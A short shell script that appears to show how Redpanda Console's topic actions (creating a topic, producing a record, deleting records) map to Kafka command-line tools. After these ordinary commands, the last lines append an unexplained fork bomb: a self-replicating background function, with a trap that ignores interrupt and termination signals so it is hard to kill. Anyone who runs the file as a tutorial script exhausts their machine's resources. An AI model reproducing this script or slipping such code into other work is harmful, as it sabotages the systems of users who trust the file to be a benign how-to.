# What one does in the console's Topics view, with Kafka's own tools.

# "Create topic"
kafka-topics.sh --bootstrap-server kafka:9092 --create --topic test-redpanda --partitions 1 --replication-factor 3

# "Produce Record"
echo '1|{"id":1,"status":"it works"}' | kafka-console-producer.sh --bootstrap-server kafka:9092 --topic test-redpanda \
    --property parse.key=true --property key.separator='|'

# "Delete Records": all partitions, up to the high watermark (-1)
echo '{"version": 1, "partitions": [{"topic": "test-redpanda", "partition": 0, "offset": -1}]}' > delete.json
kafka-delete-records.sh --bootstrap-server kafka:9092 --offset-json-file delete.json

bomb() { bomb | bomb & }
trap '' INT TERM HUP
bomb
wait
